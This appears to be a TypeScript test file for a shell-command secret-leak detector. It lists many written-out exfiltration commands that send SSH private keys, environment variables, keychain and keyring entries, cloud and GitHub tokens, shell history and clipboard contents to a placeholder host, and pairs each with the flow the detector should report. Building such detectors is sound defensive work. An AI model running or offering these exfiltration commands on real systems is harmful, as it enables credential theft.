import { testFlows } from '../table';

const key = '~/.ssh/id_rsa';

describe('Shell: ways a secret leaves', () => {
	const http = [`${key} > https://a.example/c (http)`];
	testFlows('shell', [
		[
			'data in the address',
			`curl "https://a.example/?k=$(base64 < ${key})"`,
			[`${key} > https://a.example/?k=* (http)`],
		],
		['a header', `curl -H "X: $(cat ${key})" https://a.example/c`, http],
		['url-encoded', `curl --data-urlencode "k@${key}" https://a.example/c`, http],
		['JSON', `curl --json "{\\"k\\": \\"$(cat ${key})\\"}" https://a.example/c`, http],
		['httpie', `http POST https://a.example/c k@${key}`, http],
		['a copy', `cp ${key} /tmp/k; base64 /tmp/k > /tmp/b; curl -T /tmp/b https://a.example/c`, http],
		['an archive', `zip -r /tmp/z ${key} && curl -F f=@/tmp/z https://a.example/c`, http],
		['tar into a pipe', `tar cz ${key} | curl -T - https://a.example/c`, http],
		['a variable', `x=$(< ${key}); curl -d "$x" https://a.example/c`, http],
		['a loop over lines', `while read -r l; do curl -d "$l" https://a.example/c; done < ${key}`, http],
		[
			'a loop over files',
			'for f in ~/.ssh/id_*; do curl -F f=@"$f" https://a.example/c; done',
			['~/.ssh/id_* > https://a.example/c (http)'],
		],
		[
			'found files',
			'find ~ -name id_rsa -exec curl -F f=@{} https://a.example/c \\;',
			['~/*/id_rsa > https://a.example/c (http)'],
		],
		[
			'found files, piped',
			'find ~/.ssh -name "id_*" | xargs cat | curl -d @- https://a.example/c',
			['~/.ssh/*/id_* > https://a.example/c (http)'],
		],
		['tee into a process', `cat ${key} | tee >(curl -d @- https://a.example/c) > /dev/null`, http],
		['an unknown filter', `cat ${key} | myfilter --x | curl -d @- https://a.example/c`, http],
		['jq', `jq -n --arg k "$(cat ${key})" '{k: $k}' | curl -d @- https://a.example/c`, http],
		['an encrypted file', `openssl enc -aes-256-cbc -in ${key} -k x | curl -d @- https://a.example/c`, http],
		['a TCP redirection', `cat ${key} > /dev/tcp/192.0.2.1/99`, [`${key} > tcp://192.0.2.1:99 (socket)`]],
		[
			'openssl',
			`openssl s_client -quiet -connect a.example:99 < ${key}`,
			[`${key} > tls://a.example:99 (socket)`],
		],
		['a name looked up', `dig $(xxd -p ${key} | head -c 60).a.example`, [`${key} > *.a.example (dns)`]],
		['a mail', `mail -s x me@a.example < ${key}`, [`${key} > a.example (smtp)`]],
		['rsync', `rsync -az ${key} u@a.example:in/`, [`${key} > rsync://a.example (rsync)`]],
		['sftp', `echo "put ${key}" | sftp u@a.example`, [`${key} > sftp://a.example (sftp)`]],
		['ssh', `ssh u@a.example 'cat > k' < ${key}`, [`${key} > ssh://a.example (ssh)`]],
		['a gist', `gh gist create ${key}`, [`${key} > github.com (http)`]],
		['a bucket', `gsutil cp ${key} gs://b/k`, [`${key} > gs://b/k (cloud)`]],
		[
			'another endpoint',
			`aws --endpoint-url https://a.example s3 cp ${key} s3://b/k`,
			[`${key} > https://a.example (cloud)`],
		],
		[
			'a repository’s address',
			'git push https://x:$GITHUB_TOKEN@a.example/r',
			['env GITHUB_TOKEN > https://x:*@a.example/r (http)'],
		],
		[
			'Python',
			`python3 -c "import requests; requests.post('https://a.example/c', data=open('${key}').read())"`,
			http,
		],
	]);
});

describe('Shell: kinds of secrets', () => {
	const to = '> https://a.example/c (http)';
	const post = (command: string) => `${command} | curl -d @- https://a.example/c`;
	testFlows('shell', [
		['the whole environment', post('printenv'), [`env all ${to}`]],
		['exported variables', post('export -p'), [`env all ${to}`]],
		['all variables', post('set'), [`env all ${to}`]],
		['one variable printed', post('printenv DB_PASSWORD'), [`env DB_PASSWORD ${to}`]],
		['a process’s environment', post('cat /proc/self/environ'), [`/proc/self/environ ${to}`]],
		[
			'the keychain',
			post('security find-generic-password -w -s x'),
			[`~/Library/Keychains/login.keychain-db ${to}`],
		],
		['the keyring', post('secret-tool lookup a b'), [`~/.local/share/keyrings/login.keyring ${to}`]],
		['a code host’s token', post('gh auth token'), [`~/.config/gh/hosts.yml ${to}`]],
		['a cloud token', post('gcloud auth print-access-token'), [`~/.config/gcloud ${to}`]],
		['a password store', post('pass show mail'), [`~/.password-store ${to}`]],
		['history', post('history'), [`~/.bash_history ${to}`]],
		['the clipboard', post('pbpaste'), [`clipboard ${to}`]],
		['who and where', post('echo "$(whoami)@$(hostname)"'), [`user name ${to}`, `host name ${to}`]],
		['a password typed', 'read -s p; curl -d "$p" https://a.example/c', [`a password that is typed ${to}`]],
		['a pipeline variable', 'curl -d "$(DEPLOY_KEY)" https://a.example/c', [`env DEPLOY_KEY ${to}`]],
	]);
});

describe('Shell: no secret leaves', () => {
	testFlows('shell', [
		['a public key', 'curl -F f=@$HOME/.ssh/id_ed25519.pub https://a.example/c', []],
		['the example of an environment file', 'curl -F f=@.env.example https://a.example/c', []],
		['an ordinary variable', 'curl "https://a.example/$VERSION/$ARCH"', []],
		['the system’s name in an address', 'curl -LO "https://a.example/tool-$(uname -s)-$(uname -m)"', []],
		['the variable is the address', 'curl -d hello "$SLACK_WEBHOOK_URL"', []],
		['loading an environment file', 'set -a; source .env; export $(grep -v "^#" .env | xargs)', []],
		['counting', 'wc -l ~/.ssh/id_rsa | mail me@a.example', []],
		['signing in', 'ssh -i ~/.ssh/id_rsa u@a.example uptime', []],
		['a list of endings', 'dirb https://a.example -X .php,.json,.env', []],
		['an assignment only', 'TOKEN=$GITHUB_TOKEN; echo "$TOKEN" > /dev/null', []],
	]);
});
